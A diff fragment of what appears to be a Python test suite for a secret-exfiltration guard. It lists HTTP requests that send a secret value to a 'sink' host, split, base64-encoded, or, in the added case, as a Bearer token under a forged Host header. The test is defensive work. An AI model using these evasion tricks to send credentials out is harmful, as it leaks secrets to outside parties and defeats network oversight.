@@ -78,6 +78,12 @@ attempts = {
     "split 1": ("POST", sink + "/a", {}, p[:half].encode()),
     "split 2": ("POST", sink + "/b", {}, p[half:].encode()),
     "base64 body": ("POST", sink + "/c", {}, base64.b64encode(("key=" + p).encode())),
+    "its host named, another reached": (
+        "POST",
+        sink + "/d",
+        {"host": api.split("//", 1)[1], "authorization": "Bearer " + p},
+        b"",
+    ),
     "body to its own host": (
         "POST",
         api + "/v1/chat/completions",
